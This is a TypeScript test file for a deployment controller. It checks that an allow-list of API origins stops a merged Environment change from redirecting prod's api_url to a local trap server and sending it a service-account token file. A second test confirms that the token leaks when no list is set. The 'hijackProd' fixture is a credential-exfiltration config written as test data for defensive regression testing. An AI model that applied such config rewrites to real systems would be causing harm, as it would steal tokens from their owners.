import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterEach, beforeEach, expect, it } from "vitest";
import { environmentApiReader } from "../../../src/cli/environments.js";
import { startController } from "../../../src/controller/controller.js";
import { waitFor, writeDoc } from "../support.js";
import {
  environmentOptions,
  namesOn,
  PROD_KEY,
  revisionsOn,
  STAGING_KEY,
  useEnvironmentsHarness,
  writeAlpha,
  writeTree,
} from "./fixture.js";

// The controller follows Environments as they are merged. A change rewriting prod's Environment to
// api_url: <a server of the author's> and api_key: {file: <a token this process can read>} is
// refused with --allow-api-origin (the reader `plumb controller` uses): prod stops, staging goes
// on, and that server receives no request and no token. Without the list, the token arrives there
// (the attack as it was), and the controller said once that nothing is pinned.

const h = useEnvironmentsHarness("plumb-ctl-allow-origin-");
const TOKEN = "eyJ-service-account-token-canary-0123456789";
let trap: Server;
let trapUrl: string;
const seen: { url: string; key: string | undefined }[] = [];

beforeEach(async () => {
  seen.splice(0);
  trap = createServer((req, res) => {
    seen.push({ url: req.url ?? "", key: req.headers["x-api-key"] as string | undefined });
    res.writeHead(200, { "content-type": "application/json" }).end("{}");
  });
  await new Promise<void>((resolve) => trap.listen(0, "127.0.0.1", resolve));
  trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
});
afterEach(async () => {
  trap.closeAllConnections();
  await new Promise((resolve) => trap.close(resolve));
});

/** Starts a controller over the tree whose Environments are read as `plumb controller` reads them. */
async function start(allowApiOrigin: string[] | undefined) {
  await writeTree(h);
  await writeFile(join(h.dir, "token"), `${TOKEN}\n`);
  const env = { ...process.env, STAGING_KEY, PROD_KEY };
  let unpinned = 0;
  const environmentApi = environmentApiReader(
    allowApiOrigin ? { allowApiOrigin } : {},
    env,
    () => unpinned++,
  );
  const controller = await startController(environmentOptions(h, { environmentApi }, env));
  h.controllers.push(controller);
  await waitFor(
    "both settled",
    () => controller.ready() && (controller.status().environments ?? []).length === 2,
  );
  await waitFor("alpha on both", async () => (await namesOn(h.prod, PROD_KEY)).includes("alpha"));
  return { controller, unpinned: () => unpinned };
}

/** The merged change: prod's Environment sends a token file to the trap. */
const hijackProd = () =>
  writeDoc(
    h.dir,
    "env-prod.yaml",
    `apiVersion: plumb/v1\nkind: Environment\nmetadata:\n  name: prod\nspec:\n  api_url: ${trapUrl}\n  api_key: {file: token}\n`,
  );

it("--allow-api-origin: the hijacked environment is refused and sent nothing; the other goes on", async () => {
  const { controller, unpinned } = await start([h.staging.url, h.prod.url]);
  await hijackProd();
  const prod = () => controller.status().environments?.find((e) => e.environment === "prod");
  await waitFor("prod refused", () => prod()?.role === "failed");
  expect(prod()?.error).toContain(
    `environment prod (env-prod.yaml:6): spec.api_url: ${trapUrl} is not an allowed API origin (--allow-api-origin: ${h.staging.url}, ${h.prod.url})`,
  );
  expect(prod()?.error).not.toContain("canary");

  // staging still follows git: an edit of alpha is one more revision there.
  await writeAlpha(h, "img/alpha:prod-1", "img/alpha:2");
  await waitFor("staging edited", async () => (await revisionsOn(h.staging, STAGING_KEY)).alpha === 2);
  expect(controller.status().environments?.find((e) => e.environment === "staging")?.role).toBe("leader");
  expect(seen).toEqual([]);
  expect(unpinned()).toBe(0);
}, 60_000);

it("without a list (as it was): the token file is sent to the hijacked api_url; said once at start", async () => {
  const { unpinned } = await start(undefined);
  expect(unpinned()).toBe(1);
  await hijackProd();
  await waitFor("the trap reached", () => seen.length > 0);
  expect(seen[0]!.key).toBe(TOKEN);
  expect(unpinned()).toBe(1);
}, 60_000);
